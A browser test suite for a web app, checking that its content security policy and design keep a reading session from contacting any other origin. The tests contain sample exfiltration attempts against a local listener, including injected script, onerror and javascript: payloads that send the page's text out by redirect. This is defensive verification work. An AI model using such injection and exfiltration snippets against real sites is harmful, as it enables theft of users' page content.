// Every way out of a page that is known, tried from the page and from a worker of its kind, against a host that counts; and
// a whole session, counted by the page's own host. What the policy cannot forbid stands at the end.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { test } from "node:test";
import { done, example, keptOffline, paste, useBrowser, visit } from "./browser.js";
import { host } from "./host.js";

useBrowser();

/** A listener of another origin that counts what is said to it, in whatever protocol. A connection
 * alone says nothing: Chromium opens one ahead for a frame or a form that it then refuses. */
async function stranger() {
  /** @type {string[]} */
  const heard = [];
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (data) => heard.push(data.toString("latin1").split("\r\n")[0] ?? ""));
    socket.once("data", () => socket.end("HTTP/1.1 204 No Content\r\naccess-control-allow-origin: *\r\n\r\n"));
  });
  await new Promise((go) => server.listen(0, "127.0.0.1", () => go(null)));
  server.unref();
  const address = server.address();
  assert.ok(address && typeof address === "object");
  const { port } = address;
  const datagrams = createSocket("udp4", () => heard.push("a datagram")).unref();
  await new Promise((go) => datagrams.bind(port, "127.0.0.1", () => go(null)));
  return {
    url: `http://127.0.0.1:${port}/`,
    port,
    heard,
    close: () => {
      server.close();
      datagrams.close();
    },
  };
}

test("a whole session asks its host for nothing after it has loaded", async () => {
  const own = await host();
  await visit({ url: own.url }, async ({ page }) => {
    await keptOffline(page);
    await page.waitForTimeout(300);
    const asked = own.asked.length;
    await paste(page, { "text/html": "<p>Ann Smith left Paris on 4 May 2020.</p>", "text/plain": "x" });
    await page.click("#read");
    await done(page);
    await page.click("#new");
    await example(page);
    await page.locator("#cast li button").first().click();
    await page.click("#mend");
    await page.locator("dialog.mend button", { hasText: "Not a name at all" }).click();
    await page.waitForSelector("#fixes:not([hidden])");
    await page.click("#fixes");
    await page.waitForSelector("dialog .fixes");
    await page.keyboard.press("Escape");
    await page.keyboard.press("u");
    await page.click("#add");
    await example(page, 1);
    await page.click("#scope [value=all]");
    for (const tab of ["quotes", "map", "network", "timeline"]) await page.click(`#tab-${tab}`);
    await page.keyboard.press("?");
    await page.keyboard.press("Escape");
    await page.keyboard.press("x");
    await page.waitForSelector("#export[open]");
    await page.keyboard.press("Escape");
    await page.click("#new");
    await page.waitForTimeout(500);
    assert.deepEqual(own.asked.slice(asked), []);
    assert.ok(
      own.asked.every(({ method, bytes, path }) => method === "GET" && bytes === 0 && !path.includes("?")),
      "loading itself tells the host nothing",
    );
  });
  await own.close();
});

test("no element, interface or style of the page reaches another origin", () =>
  visit({}, async ({ page }) => {
    const other = await stranger();
    await example(page);
    await page.evaluate(
      ({ url, port }) => {
        const tries = {
          fetch: () => void fetch(`${url}fetch`, { mode: "no-cors", keepalive: true }).catch(() => {}),
          xhr: () => {
            const xhr = new XMLHttpRequest();
            xhr.open("POST", `${url}xhr`);
            xhr.send("text");
          },
          beacon: () => navigator.sendBeacon(`${url}beacon`, "text"),
          events: () => new EventSource(`${url}events`),
          socket: () => new WebSocket(`ws://127.0.0.1:${port}/socket`),
          transport: () => Reflect.get(globalThis, "WebTransport") && new WebTransport(`https://127.0.0.1:${port}/`),
          code: () => void import(`${url}code.js`).catch(() => {}),
          worker: () => new Worker(`${url}worker.js`),
          shared: () => new SharedWorker(`${url}shared.js`),
          service: () => void navigator.serviceWorker.register(`${url}sw.js`).catch(() => {}),
          font: () => void new FontFace("x", `url(${url}font.woff2)`).load().catch(() => {}),
          sheet: () => {
            const sheet = new CSSStyleSheet();
            sheet.replaceSync(`body { background: url(${url}sheet.png) } main { cursor: url(${url}cursor.png), auto }`);
            document.adoptedStyleSheets = [sheet];
          },
          style: () => {
            document.body.style.setProperty("border-image", `url(${url}style.png) 1`);
            document.body.style.setProperty("--u", `url(${url}var.png)`);
            document.body.style.setProperty("list-style-image", "var(--u)");
          },
          ping: () => {
            const a = Object.assign(document.createElement("a"), { href: "#", ping: `${url}ping` });
            document.body.append(a);
            a.click();
          },
          form: () => {
            const form = Object.assign(document.createElement("form"), {
              action: `${url}form`,
              method: "post",
              target: "f",
            });
            document.body.append(form);
            form.submit();
          },
          svg: () => {
            const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
            image.setAttribute("href", `${url}svg.png`);
            document.querySelector("svg")?.append(image);
          },
        };
        for (const act of Object.values(tries)) {
          try {
            act();
          } catch {
            // Some are refused by an exception.
          }
        }
        for (const [tag, attribute] of Object.entries({
          img: "src",
          iframe: "src",
          embed: "src",
          object: "data",
          video: "src",
          audio: "src",
          script: "src",
        })) {
          const el = document.createElement(tag);
          el.setAttribute(attribute, `${url}${tag}`);
          document.body.append(el);
        }
        for (const rel of [
          "prefetch",
          "preload",
          "modulepreload",
          "stylesheet",
          "manifest",
          "icon",
          "prerender",
          "preconnect",
        ]) {
          const link = Object.assign(document.createElement("link"), { rel, href: `${url}${rel}` });
          link.setAttribute("as", "image");
          document.head.append(link);
        }
        const rules = Object.assign(document.createElement("script"), { type: "speculationrules" });
        rules.textContent = JSON.stringify({ prefetch: [{ urls: [`${url}speculation`] }] });
        document.head.append(rules);
      },
      { url: other.url, port: other.port },
    );
    await page.waitForTimeout(1500);
    assert.deepEqual(other.heard, []);
    other.close();
  }));

test("a worker under the page's policy reaches no other origin", () =>
  visit({}, async ({ page }) => {
    const other = await stranger();
    const worker = page.workers().find((w) => w.url().startsWith("blob:"));
    assert.ok(worker, "the core runs in a blob worker");
    const outcome = await worker.evaluate(
      async ({ url, port }) => {
        const refused = [];
        const tries = {
          fetch: () => fetch(`${url}fetch`, { mode: "no-cors" }),
          xhr: () =>
            new Promise((go, fail) => {
              const xhr = new XMLHttpRequest();
              xhr.onload = go;
              xhr.onerror = fail;
              xhr.open("POST", `${url}xhr`);
              xhr.send("text");
            }),
          scripts: () => Reflect.get(globalThis, "importScripts")(`${url}scripts.js`),
          code: () => import(`${url}code.js`),
          events: () =>
            new Promise((go, fail) => Object.assign(new EventSource(`${url}e`), { onopen: go, onerror: fail })),
          socket: () =>
            new Promise((go, fail) =>
              Object.assign(new WebSocket(`ws://127.0.0.1:${port}/`), { onopen: go, onerror: fail }),
            ),
          nested: () =>
            new Promise((go, fail) => Object.assign(new Worker(`${url}w.js`), { onmessage: go, onerror: fail })),
          peer: () => Reflect.construct(Reflect.get(globalThis, "RTCPeerConnection"), []),
        };
        for (const [name, act] of Object.entries(tries)) {
          try {
            await act();
          } catch {
            refused.push(name);
          }
        }
        return [Object.keys(tries), refused];
      },
      { url: other.url, port: other.port },
    );
    assert.deepEqual(outcome[1], outcome[0]);
    await page.waitForTimeout(300);
    assert.deepEqual(other.heard, []);
    other.close();
  }));

test("peer connections, which no policy forbids, are given up by the page itself", () =>
  visit({}, async ({ page }) => {
    assert.equal(
      await page.evaluate(() => Object.keys(globalThis).some((name) => name.includes("PeerConnection"))),
      false,
    );
    assert.equal(await page.evaluate(() => typeof Reflect.get(globalThis, "RTCPeerConnection")), "undefined");
  }));

// A script that runs in the page could still name a host to connect to ahead (`preconnect`, `dns-prefetch`: the host's name
// is all that goes out), send the page to another address, or open one, with text in it: the policy has no
// word for that, and the reader sees it. No such script comes in: the policy runs only the page's own files, and the
// article becomes text nodes.
test("a script that comes with a text does not run", () =>
  visit({}, async ({ page }) => {
    const other = await stranger();
    await example(page);
    await page.evaluate((url) => {
      const code = `location.href = "${url}?" + document.body.textContent`;
      const inline = Object.assign(document.createElement("script"), { textContent: code });
      document.body.append(inline);
      const holder = document.createElement("div");
      holder.innerHTML = `<img src="x:" onerror="${code.replaceAll('"', "'")}"><a href="javascript:${code.replaceAll('"', "'")}">a</a>`;
      document.body.append(holder);
      holder.querySelector("a")?.click();
      const refresh = document.createElement("base");
      refresh.href = url;
      document.head.append(refresh);
      for (const run of [
        () => Reflect.get(globalThis, "eval")(code),
        () => new Function(code)(),
        () => setTimeout(code),
      ]) {
        try {
          run();
        } catch {
          // Refused.
        }
      }
    }, other.url);
    await page.waitForTimeout(800);
    assert.deepEqual(other.heard, []);
    assert.equal(await page.evaluate(() => document.body.dataset.screen), "reading");
    assert.equal(await page.evaluate(() => new URL("x", document.baseURI).origin === location.origin), true);
    other.close();
  }));
